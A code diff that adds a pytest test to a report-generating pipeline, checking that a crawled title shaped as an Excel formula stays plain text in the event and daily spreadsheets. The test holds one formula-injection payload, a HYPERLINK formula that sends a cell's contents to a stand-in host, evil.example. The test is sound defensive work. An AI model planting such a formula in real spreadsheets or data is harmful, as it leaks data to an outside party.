@@ -4,21 +4,24 @@ responses, and next steps by template; its figures equal the rows in the databas
 
 from __future__ import annotations
 
+import io
 from collections import Counter
 from typing import Any
 
+import openpyxl
 import pytest
 from sqlalchemy import select
 
 from pipeline.queries.event_report import UnknownEvent, event_figures
 from pipeline.reports.docx import render_docx
+from pipeline.reports.periods import Period
 from pipeline.reports.service import Spec, build
 from pipeline.reports.xlsx import render_xlsx
 from pipeline.runtime import Runtime
-from pipeline.storage.models import Post
+from pipeline.storage.models import Event, Post
 from pipeline.vocabulary import PLATFORM_NAMES
 from tests.pipeline.reports.conftest import body, headings, sheets, text_of, word
-from tests.pipeline.reports.seed import NOW, at
+from tests.pipeline.reports.seed import DAY, NOW, at
 
 
 def test_special_report_figures_equal_the_database(world: tuple[Runtime, Any]) -> None:
@@ -78,3 +81,19 @@ def test_unknown_event_is_refused(world: tuple[Runtime, Any]) -> None:
     rt, _ = world
     with pytest.raises(UnknownEvent, match="没有编号为 999 的事件"):
         build(rt, Spec("event", event_id=999), NOW)
+
+
+def test_a_crawled_formula_title_stays_text_in_the_special_and_daily_excel(world: tuple[Runtime, Any]) -> None:
+    rt, events = world
+    hostile = '=HYPERLINK("http://evil.example/?leak="&B3,"崇头镇旅游大巴侧翻")'
+    with rt.session() as s:
+        bus = s.get(Event, events["bus"].id)
+        assert bus is not None
+        bus.title = hostile
+        for post in s.scalars(select(Post).where(Post.event_id == events["bus"].id)):
+            post.title = hostile
+    for spec in (Spec("event", event_id=events["bus"].id, grade="重大"), Spec("daily", Period.containing("daily", DAY.date()))):
+        book = openpyxl.load_workbook(io.BytesIO(render_xlsx(build(rt, spec, NOW))))
+        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+        assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"], spec.kind
+        assert any(isinstance(c.value, str) and hostile in c.value for c in cells), spec.kind
